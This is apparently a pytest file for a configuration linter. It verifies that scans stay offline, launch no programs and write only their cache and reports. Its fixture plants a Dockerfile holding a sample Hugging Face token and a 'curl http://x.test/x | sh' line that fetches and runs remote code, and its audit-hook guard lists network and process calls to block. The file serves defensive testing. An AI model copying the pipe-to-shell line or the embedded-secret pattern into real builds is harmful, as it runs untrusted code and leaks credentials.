"""Nothing leaves, nothing is written but reports and the cache: no network, read-only folders, another user."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from linter.formats import secrets
from linter.recipe import load_rules
from linter.ruleset.cachefile import default_directory
from tests.test_cli import POD

ROOT = Path(__file__).resolve().parent.parent
# every way out of the process, and every file that is opened for writing
GUARD = """
import os, sys
ALLOWED = tuple(filter(None, os.environ["ALLOWED"].split(":")))
WRITES = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
NETWORK = ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.sendto", "urllib.", "ftplib.")
PROGRAMS = ("os.system", "os.exec", "os.posix_spawn", "os.fork", "subprocess.Popen", "os.startfile")
CHANGES = ("os.mkdir", "os.remove", "os.rename", "os.rmdir", "os.symlink", "os.truncate")
def guard(event, args):
    if event.startswith(NETWORK):
        os.write(2, f"NETWORK {event}\\n".encode()); os._exit(97)
    if event in PROGRAMS:
        os.write(2, f"PROGRAM {event} {args!r}\\n".encode()); os._exit(98)
    if event == "open" and isinstance(args[0], (str, bytes)) and (args[2] or 0) & WRITES:
        path = os.path.abspath(os.fsdecode(args[0]))
        if path != os.devnull and not path.startswith(ALLOWED):
            os.write(2, f"WRITE {path}\\n".encode()); os._exit(99)
    if event in CHANGES and not os.path.abspath(os.fsdecode(args[0])).startswith(ALLOWED):
        os.write(2, f"{event} {args!r}\\n".encode()); os._exit(99)
sys.addaudithook(guard)
"""


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    folder = tmp_path / "tree"
    folder.mkdir()
    token = secrets.sample("huggingface-user-token")
    (folder / "pod.yaml").write_text(POD)
    (folder / "Dockerfile").write_text(
        f"FROM alpine:latest\nENV HF_TOKEN={token}\nRUN curl http://x.test/x | sh\n"
    )
    (folder / "main.tf").write_text(
        'data "http" "x" {\n  url = "https://example.org"\n}\ndata "external" "y" {\n  program = ["touch", "x"]\n}\n'
        'module "m" {\n  source = "git::https://example.org/m.git"\n}\n'
    )
    (folder / "compose.yaml").write_text("include: [https://example.org/c.yaml]\nservices: {a: {image: a}}\n")
    return folder


def _scan(
    tree: Path, tmp_path: Path, *arguments: str, allowed: tuple[Path, ...] = ()
) -> subprocess.CompletedProcess[bytes]:
    site = tmp_path / "site"
    site.mkdir(exist_ok=True)
    (site / "sitecustomize.py").write_text(GUARD)
    name = load_rules().name
    home = tmp_path / "home" / "tarecheck"
    home.mkdir(parents=True, exist_ok=True)
    (home / name).write_bytes((default_directory() / name).read_bytes())
    environment = {
        **os.environ,
        "PYTHONPATH": f"{site}{os.pathsep}{ROOT}",
        "PYTHONDONTWRITEBYTECODE": "1",
        "TARECHECK_NO_CACHE": "0",
        "XDG_CACHE_HOME": str(tmp_path / "home"),
        "ALLOWED": ":".join(map(str, (home, *allowed))),
    }
    command = [sys.executable, "-m", "linter", "scan", str(tree), "--exit-zero", "--no-render", *arguments]
    return subprocess.run(command, capture_output=True, env=environment, cwd=tmp_path, check=False)


def test_the_guard_sees_what_it_guards(tree: Path, tmp_path: Path) -> None:
    assert _scan(tree, tmp_path, "-o", str(tmp_path / "report.sarif")).returncode == 99


def test_a_scan_runs_nothing_connects_to_nothing_and_writes_only_its_cache(
    tree: Path, tmp_path: Path
) -> None:
    result = _scan(tree, tmp_path)
    assert result.returncode == 0, result.stderr
    assert b"Coverage: read 4 of 4 files" in result.stdout
    assert sorted(path.name for path in tree.iterdir()) == [
        "Dockerfile",
        "compose.yaml",
        "main.tf",
        "pod.yaml",
    ]
    assert list((tmp_path / "home" / "tarecheck" / "results").glob("*/*.bin"))
    again = _scan(tree, tmp_path)
    assert again.stdout == result.stdout


def test_reports_are_written_where_they_are_asked_for(tree: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    names = [out / f"r.{suffix}" for suffix in ("sarif", "json", "xml", "md", "csv", "html")]
    result = _scan(tree, tmp_path, *[word for name in names for word in ("-o", str(name))], allowed=(out,))
    assert result.returncode == 0, result.stderr
    token = secrets.sample("huggingface-user-token")
    for name in names:
        text = name.read_text(encoding="utf-8")
        assert "missing-user" in text or "Dockerfile" in text
        assert token not in text


@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="becomes another user")
def test_another_user_without_a_home_and_with_nothing_to_write(tree: Path, tmp_path: Path) -> None:
    for folder in (tmp_path, *tmp_path.parents):
        if folder.stat().st_mode & 0o005 != 0o005:
            pytest.skip("the temporary folder is closed to others")
    (tree / "secret.yaml").write_text(POD)
    (tree / "secret.yaml").chmod(0o600)
    (tree / "closed").mkdir(mode=0o700)
    code = (
        "import os, sys; os.setgid(65534); os.setuid(65534)\n"
        "os.environ.pop('HOME', None); os.environ.pop('XDG_CACHE_HOME', None)\n"
        f"sys.argv = ['tarecheck', 'scan', {str(tree)!r}, '--exit-zero', '--jobs', '1']\n"
        "from linter.cli import run; run()"
    )
    environment = {
        **os.environ,
        "PYTHONPATH": str(ROOT),
        "PYTHONDONTWRITEBYTECODE": "1",
        "TARECHECK_NO_CACHE": "0",
    }
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, env=environment, cwd="/", check=False
    )
    if b"Permission denied" in result.stderr and b"linter" in result.stderr and not result.stdout:
        pytest.skip("the interpreter is closed to others")
    assert result.returncode == 0, result.stderr
    assert b"privileged" in result.stdout
    assert b"can't be read" in result.stdout
